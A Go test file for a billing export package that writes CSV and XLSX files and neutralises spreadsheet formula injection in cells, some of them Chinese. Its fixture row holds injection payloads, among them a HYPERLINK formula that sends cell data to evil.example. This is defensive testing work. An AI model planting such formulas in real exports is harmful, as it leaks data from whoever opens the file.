package export_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"reflect"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"gridpay/internal/billing"
	"gridpay/internal/export"
)

// payments is a staff page's table with Chinese text and cells that try to be formulas.
var payments = export.Table{
	Sheet:  "缴费记录 2026/11",
	Header: []string{"订单号", "户号", "户名", "金额(元)", "备注"},
	Rows: [][]string{
		{"GPW20261126160000000000000001", "3100000001", "张*三", "175.00", "城关镇**村, 第 3 组"},
		{"GPW20261126160000000000000002", "3100000002", `李"四"`, "-12.50", "line one\nline two"},
		{"GPW3", "3100000003", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此\")", "+1", "@SUM(A1:A9)"},
		{"GPW4", "3100000004", "\t=1+1", "\r=1", "𠮷 a rare character, and a comma"},
		{"GPW5", "", "", "0.01", " leading space"},
	},
}

// defused is what each cell of payments must read back as.
func defused(t export.Table) [][]string {
	out := [][]string{}
	for _, row := range append([][]string{t.Header}, t.Rows...) {
		r := []string{}
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				c = "'" + c
			}
			r = append(r, c)
		}
		out = append(out, r)
	}
	return out
}

func TestSafe(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"175.00", "175.00"},
		{"张三", "张三"},
		{"=1+1", "'=1+1"},
		{"+86 138", "'+86 138"},
		{"-12.50", "'-12.50"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=cmd", "'\t=cmd"},
		{"\r=cmd", "'\r=cmd"},
		{" =cmd", " =cmd"},
		{"a=b", "a=b"},
		{"'quoted", "'quoted"},
		{"bad \xff byte", "bad \uFFFD byte"},
	} {
		if got := export.Safe(tc.in); got != tc.want {
			t.Errorf("Safe(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestWriteCSV(t *testing.T) {
	var buf bytes.Buffer
	if err := export.WriteCSV(&buf, payments); err != nil {
		t.Fatal(err)
	}
	raw := buf.Bytes()
	if !bytes.HasPrefix(raw, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("the file starts % x, want the UTF-8 byte order mark", raw[:min(len(raw), 3)])
	}
	if !bytes.HasPrefix(raw[3:], []byte("订单号,户号,户名,金额(元),备注\r\n")) {
		t.Errorf("the header line is %q, want CRLF-terminated UTF-8", raw[3:min(len(raw), 60)])
	}
	if !bytes.Contains(raw, []byte(`"李""四"""`)) || !bytes.Contains(raw, []byte("\"line one\r\nline two\"")) {
		t.Errorf("quotes and line breaks are not quoted as RFC 4180 says:\n%s", raw)
	}
	r := csv.NewReader(bytes.NewReader(raw[3:]))
	r.FieldsPerRecord = -1
	got, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// A line break inside a cell is written CRLF and read back as \n; a carriage return of its own
	// is dropped, so "\r=1" comes back as "'=1": still text, never a formula.
	want := defused(payments)
	want[4][3] = "'=1"
	if !reflect.DeepEqual(got, want) {
		t.Errorf("read back:\n%q\nwant\n%q", got, want)
	}
}

func TestWriteXLSX(t *testing.T) {
	var buf bytes.Buffer
	if err := export.WriteXLSX(&buf, payments); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := "缴费记录 2026_11"
	if names := f.GetSheetList(); len(names) != 1 || names[0] != sheet {
		t.Fatalf("sheets %q, want [%q]", names, sheet)
	}
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	want := defused(payments)
	if len(rows) != len(want) {
		t.Fatalf("%d rows read back, want %d", len(rows), len(want))
	}
	for i := range want {
		if !reflect.DeepEqual(rows[i], want[i]) {
			t.Errorf("row %d = %q, want %q", i, rows[i], want[i])
		}
	}
	for _, ref := range []string{"A1", "E1"} {
		id, err := f.GetCellStyle(sheet, ref)
		if err != nil {
			t.Fatal(err)
		}
		style, err := f.GetStyle(id)
		if err != nil || style.Font == nil || !style.Font.Bold {
			t.Errorf("header cell %s style %+v, %v; want bold", ref, style, err)
		}
	}
	if id, _ := f.GetCellStyle(sheet, "A2"); id != 0 {
		if style, _ := f.GetStyle(id); style != nil && style.Font != nil && style.Font.Bold {
			t.Error("a data cell is bold")
		}
	}
	for _, ref := range []string{"C4", "D4", "E4", "C5"} {
		if formula, err := f.GetCellFormula(sheet, ref); err != nil || formula != "" {
			t.Errorf("cell %s holds formula %q (%v), want text", ref, formula, err)
		}
	}
}

func TestSheetName(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", "Sheet1"},
		{"对账", "对账"},
		{"a:b\\c/d?e*f[g]h", "a_b_c_d_e_f_g_h"},
		{"'quoted'", "quoted"},
		{"   ", "Sheet1"},
		{strings.Repeat("长", 40), strings.Repeat("长", 31)},
		{strings.Repeat("𠮷", 20), strings.Repeat("𠮷", 15)},
	} {
		if got := export.SheetName(tc.in); got != tc.want {
			t.Errorf("SheetName(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestRefused(t *testing.T) {
	tooMany := export.Table{Header: []string{"n"}, Rows: make([][]string, export.MaxRows+1)}
	for i := range tooMany.Rows {
		tooMany.Rows[i] = []string{"1"}
	}
	atMost := export.Table{Header: []string{"n"}, Rows: tooMany.Rows[:export.MaxRows]}
	for _, tc := range []struct {
		name string
		t    export.Table
		ok   bool
	}{
		{"MaxRows rows", atMost, true},
		{"one row too many", tooMany, false},
		{"a cell too long", export.Table{Rows: [][]string{{strings.Repeat("x", export.MaxCellChars+1)}}}, false},
		{"a Chinese cell too long", export.Table{Rows: [][]string{{strings.Repeat("𠮷", export.MaxCellChars/2+1)}}}, false},
		{"a cell at the limit", export.Table{Rows: [][]string{{strings.Repeat("长", export.MaxCellChars)}}}, true},
		{"a header too wide", export.Table{Header: make([]string, export.MaxColumns+1)}, false},
	} {
		for name, write := range map[string]func(*bytes.Buffer, export.Table) error{
			"csv":  func(b *bytes.Buffer, t export.Table) error { return export.WriteCSV(b, t) },
			"xlsx": func(b *bytes.Buffer, t export.Table) error { return export.WriteXLSX(b, t) },
		} {
			t.Run(tc.name+"/"+name, func(t *testing.T) {
				var buf bytes.Buffer
				err := write(&buf, tc.t)
				switch {
				case tc.ok && err != nil:
					t.Errorf("write = %v", err)
				case !tc.ok && (!errors.Is(err, billing.ErrInvalid) || buf.Len() != 0):
					t.Errorf("write = %v with %d bytes written; want ErrInvalid and nothing", err, buf.Len())
				}
			})
		}
	}
}
